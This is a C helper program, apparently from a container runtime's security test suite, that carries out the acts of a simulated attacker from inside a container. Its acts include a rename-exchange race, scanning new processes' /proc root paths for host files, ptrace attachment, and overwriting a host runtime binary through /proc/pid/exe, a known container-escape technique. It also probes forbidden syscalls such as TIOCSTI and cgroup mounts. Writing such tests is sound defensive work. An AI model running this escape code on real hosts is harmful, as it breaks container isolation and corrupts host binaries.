// SPDX-License-Identifier: Apache-2.0
/* What the attackers of test_144 do that no shell can do fast or exactly enough. Static; runs in
 * containers, and as a hook of the runtime. Each act is a function below. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

enum { EXCHANGE = 2, AHEAD = 64 };

/* swap A B: exchanges two names until it is killed. */
static int swap(char **words)
{
	int there = 0;
	while (syscall(SYS_renameat2, AT_FDCWD, words[0], AT_FDCWD, words[1], EXCHANGE) == 0)
		if (!there++)
			close(creat(words[2], 0600)); /* the race is on */
	return 1;
}

static void note(const char *file, const char *text)
{
	int fd = open(file, O_WRONLY | O_CREAT | O_APPEND, 0666);
	if (fd >= 0)
		dprintf(fd, "%s\n", text);
	close(fd);
}

/* outside REPORT ROOT MARK: a createContainer hook. Mounts whose source is MARK belong below
 * ROOT. */
static int outside(char **words)
{
	char line[4096], place[4096];
	FILE *mounts = fopen("/proc/self/mountinfo", "r");
	while (mounts && fgets(line, sizeof line, mounts)) {
		char *rest = strstr(line, " - ");
		if (!rest || sscanf(line, "%*s %*s %*s %*s %4095s", place) != 1)
			continue;
		if (strstr(rest, words[2]) && strncmp(place, words[1], strlen(words[1])) != 0)
			note(words[0], place);
	}
	return 0;
}

/* writable PATH…: names those that can be opened for writing. */
static int writable(char **words)
{
	for (; *words; words++) {
		int fd = open(*words, O_WRONLY | O_NONBLOCK);
		if (fd >= 0)
			printf("writable %s\n", *words);
		close(fd);
	}
	return 0;
}

/* Waits for the next processes of the namespace, whose numbers are the next ones; gives up the
 * processor to nobody. */
static pid_t next_process(pid_t last)
{
	for (;;)
		for (pid_t pid = last + 1; pid <= last + AHEAD; pid++)
			if (kill(pid, 0) == 0)
				return pid;
}

/* thief PATH REPORT: looks for PATH, a file of the machine, through every new process. */
static int thief(char **words)
{
	static const char *const WAYS[] = {"root", "cwd"};
	char path[512];
	for (pid_t pid = getpid();;) {
		pid = next_process(pid);
		for (int again = 0; again < 2000; again++)
			for (int way = 0; way < 2; way++) {
				snprintf(path, sizeof path, "/proc/%d/%s%s", pid, WAYS[way],
					 words[0]);
				if (access(path, F_OK) == 0) {
					note(words[1], path);
					return 0;
				}
			}
	}
}

static int is_of_container(const char *path)
{
	struct stat file, known;
	if (stat(path, &file) < 0)
		return 1;
	static const char *const OWN[] = {"/bin/busybox", "/bin/attacker"};
	for (int i = 0; i < 2; i++)
		if (stat(OWN[i], &known) == 0 && known.st_dev == file.st_dev &&
		    known.st_ino == file.st_ino)
			return 1;
	return 0;
}

/* tracer REPORT: attaches to every new process; notes each that did not yet execute a program of
 * the container. */
static int tracer(char **words)
{
	char path[64];
	int status;
	for (pid_t pid = getpid();;) {
		pid = next_process(pid);
		while (kill(pid, 0) == 0) {
			if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
				continue;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			if (!is_of_container(path))
				note(words[0], path);
			kill(pid, SIGKILL);
			waitpid(pid, &status, 0);
		}
	}
	return 0;
}

/* overwrite REPORT: stops every new process until its program is seen; one that is not of the
 * container is written to when it does not execute any more. */
static int overwrite(char **words)
{
	char path[64];
	for (pid_t pid = getpid();;) {
		pid = next_process(pid);
		kill(pid, SIGSTOP);
		snprintf(path, sizeof path, "/proc/%d/exe", pid);
		int fd = -1;
		for (int again = 0; again < 3000 && fd < 0 && kill(pid, 0) == 0; again++) {
			if (!is_of_container(path))
				fd = open(path, O_RDONLY);
			kill(pid, SIGCONT);
			usleep(10);
			if (fd < 0)
				kill(pid, SIGSTOP);
		}
		kill(pid, SIGCONT);
		if (fd < 0)
			continue;
		note(words[0], "seen");
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		for (int again = 0; again < 2000; again++) {
			int out = open(path, O_WRONLY);
			if (out >= 0 && pwrite(out, "PWNED", 5, 0) == 5)
				note(words[0], "written");
			if (out >= 0)
				break;
			usleep(1000);
		}
		close(fd);
	}
	return 0;
}

/* descriptors: the open ones and where they lead. */
static int descriptors(char **words)
{
	(void)words;
	char path[64], target[512];
	for (int fd = 0; fd < 1024; fd++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t length = readlink(path, target, sizeof target - 1);
		if (length >= 0)
			printf("%d %.*s\n", fd, (int)length, target);
	}
	return 0;
}

static void say(const char *what, int result)
{
	printf("%s: %s\n", what, result < 0 ? strerrorname_np(errno) : "done");
}

/* calls: what a container must not do, each with the answer. */
static int calls(char **words)
{
	(void)words;
	char byte = 'x', loop = 3;
	mkdir("/tmp", 0777);
	say("mount cgroup v1", mount("cgroup", "/tmp", "cgroup", 0, "memory"));
	say("mount cgroup2", mount("cgroup2", "/tmp", "cgroup2", 0, NULL));
	say("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
	say("TIOCSTI", ioctl(0, TIOCSTI, &byte));
	say("TIOCLINUX", ioctl(0, TIOCLINUX, &loop));
	return 0;
}

/* abstract: connects to every abstract socket of the network namespace and says what answered. */
static int abstract(char **words)
{
	(void)words;
	char line[512];
	static const int TYPES[] = {SOCK_STREAM, SOCK_SEQPACKET, SOCK_DGRAM};
	FILE *sockets = fopen("/proc/net/unix", "r");
	while (sockets && fgets(line, sizeof line, sockets)) {
		char *name = strchr(line, '@');
		if (!name)
			continue;
		struct sockaddr_un address = {.sun_family = AF_UNIX};
		size_t length = strcspn(name, "\n");
		/* Every NUL of a name is shown so. */
		for (size_t i = 0; i < length && i < sizeof address.sun_path; i++)
			address.sun_path[i] = name[i] == '@' ? 0 : name[i];
		length += offsetof(struct sockaddr_un, sun_path);
		for (int i = 0; i < 3; i++) {
			int fd = socket(AF_UNIX, TYPES[i], 0);
			if (connect(fd, (struct sockaddr *)&address, (socklen_t)length) == 0)
				printf("connected %s", name);
			close(fd);
		}
	}
	return 0;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int (*run)(char **words);
	} ACTS[] = {{"swap", swap},       {"outside", outside}, {"writable", writable},
		    {"thief", thief},     {"tracer", tracer},   {"overwrite", overwrite},
		    {"descriptors", descriptors}, {"calls", calls}, {"abstract", abstract}};
	for (size_t i = 0; argc > 1 && i < sizeof ACTS / sizeof *ACTS; i++)
		if (strcmp(argv[1], ACTS[i].name) == 0)
			return ACTS[i].run(argv + 2);
	return 2;
}
